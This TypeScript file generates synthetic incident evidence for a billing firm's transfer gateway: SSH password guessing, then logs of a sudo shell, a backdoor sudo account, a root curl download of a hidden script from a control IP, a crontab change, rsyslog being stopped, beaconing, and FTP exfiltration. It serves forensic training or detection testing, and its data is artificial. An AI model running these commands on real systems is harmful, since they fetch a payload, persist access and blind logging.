import type { ExampleFile } from "../examples/files.ts";
import { createRandom, type Random } from "../examples/random.ts";
import { createLines, ctime, scatter, syslogStamp, utc } from "./lines.ts";

const guesser = "91.240.118.77";
const control = "185.225.74.9";
const host = "xfer-gw02";
const users = ["agarcia", "bchen", "dlopez", "svc_edi", "jporter"];
const from = utc("2025-06-14 00:00:00");
const to = utc("2025-06-15 00:00:00");
const entry = utc("2025-06-14 13:02:00");

/**
 * A billing firm's Linux transfer gateway: a password is guessed over SSH, an account and a scheduled job are made, a script
 * is fetched and reports home once a minute, and files leave by FTP. Logs without a year, one of them the firewall's.
 */
export function gatewayIncident(): ExampleFile[] {
  const random = createRandom(614);
  return [
    { path: "organisation.yml", content: organisation },
    { path: "evidence/gateway/auth.log", content: auth(random) },
    { path: "evidence/firewall/ufw.log", content: firewall(random) },
    { path: "evidence/gateway/xferlog", content: transfers(random) },
  ];
}

function port(random: Random): number {
  return random.between(30_000, 60_000);
}

function office(random: Random): string {
  return `10.20.4.${random.between(10, 60)}`;
}

function auth(random: Random): string {
  const log = createLines();
  const add: AddMessage = (ms, program, text) =>
    log.add(ms, `${syslogStamp(ms)} ${host} ${program}[${random.between(900, 32_000)}]: ${text}`);
  usualAuth(random, add);
  for (let at = 0; at < 60; at++)
    add(entry + at * 2500, "sshd", `Failed password for jporter from ${guesser} port ${port(random)} ssh2`);
  intruderAuth(entry + 160_000, add);
  return log.text();
}

type AddMessage = (ms: number, program: string, text: string) => void;

/** Staff with keys, cron, and the guesses that every machine on the internet sees. */
function usualAuth(random: Random, add: AddMessage): void {
  scatter(random, 500, from, to, (ms) =>
    add(
      ms,
      "sshd",
      `Accepted publickey for ${random.pick(users)} from ${office(random)} port ${port(random)} ssh2`,
    ),
  );
  scatter(random, 300, from, to, (ms) =>
    add(ms, "CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"),
  );
  scatter(random, 300, from, to, (ms) =>
    add(
      ms,
      "sshd",
      `Invalid user ${random.pick(["admin", "test", "oracle", "ubuntu"])} from ${random.pick(["45.9.148", "193.32.162"])}.${random.between(1, 250)} port ${port(random)}`,
    ),
  );
}

function intruderAuth(inside: number, add: AddMessage): void {
  add(inside, "sshd", `Accepted password for jporter from ${guesser} port 51514 ssh2`);
  const command = (ms: number, who: string, text: string) =>
    add(ms, "sudo", `${who.padStart(8)} : TTY=pts/3 ; PWD=/root ; USER=root ; COMMAND=${text}`);
  command(inside + 180_000, "jporter", "/usr/bin/bash");
  add(
    inside + 240_000,
    "useradd",
    "new user: name=svc_sync, UID=1201, GID=1201, home=/home/svc_sync, shell=/bin/bash, from=/dev/pts/3",
  );
  add(inside + 260_000, "usermod", "add 'svc_sync' to group 'sudo'");
  command(inside + 280_000, "root", `/usr/bin/curl -fsSL http://${control}/x.sh -o /tmp/.x.sh`);
  add(inside + 300_000, "crontab", "(root) REPLACE (root)");
  command(inside + 340_000, "root", "/usr/bin/systemctl stop rsyslog");
}

function firewall(random: Random): string {
  const log = createLines();
  const add = (ms: number, verdict: string, way: string, source: string, target: string, ports: string) =>
    log.add(
      ms,
      `${syslogStamp(ms)} fw-edge kernel: [${random.between(1, 99_999)}.123456] [UFW ${verdict}] ${way} MAC= SRC=${source} DST=${target} LEN=60 TOS=0x00 PREC=0x00 TTL=52 ID=${random.between(1, 65_000)} DF PROTO=TCP ${ports} WINDOW=501 RES=0x00 SYN URGP=0`,
    );
  scatter(random, 1500, from, to, (ms) =>
    add(
      ms,
      random.pick(["ALLOW", "BLOCK", "BLOCK"]),
      "IN=eth0 OUT=",
      `${random.between(20, 99)}.${random.between(0, 255)}.${random.between(0, 255)}.${random.between(1, 254)}`,
      "203.0.113.8",
      `SPT=${port(random)} DPT=${random.pick([22, 23, 443, 3389, 8080])}`,
    ),
  );
  for (let at = 0; at < 200; at++)
    add(
      entry + 600_000 + at * 60_000 + random.between(0, 3000),
      "ALLOW",
      "IN=eth1 OUT=eth0",
      "10.20.4.5",
      control,
      `SPT=${port(random)} DPT=8443`,
    );
  return log.text();
}

function transfers(random: Random): string {
  const log = createLines();
  const add = (ms: number, ip: string, bytes: number, path: string, way: string, user: string) =>
    log.add(ms, `${ctime(ms)} 3 ::ffff:${ip} ${bytes} ${path} b _ ${way} r ${user} ftp 0 * c`);
  scatter(random, 200, from, to, (ms) =>
    add(
      ms,
      office(random),
      random.between(1000, 90_000),
      `/srv/outbox/claim_${random.between(1, 9999)}.edi`,
      random.pick(["o", "i"]),
      random.pick(users),
    ),
  );
  for (let at = 0; at < 150; at++)
    add(
      entry + 3_600_000 + at * 9000,
      guesser,
      random.between(9_000_000, 40_000_000),
      `/srv/outbox/statements/export_${at}.zip`,
      "o",
      "jporter",
    );
  return log.text();
}

const organisation = `name: Billing firm with a transfer gateway
sector: business services
timeZone: UTC
internalNetworks: [10.20.0.0/16]
assets:
  - { name: xfer-gw02, addresses: [10.20.4.5], role: file transfer gateway, critical: true }
`;
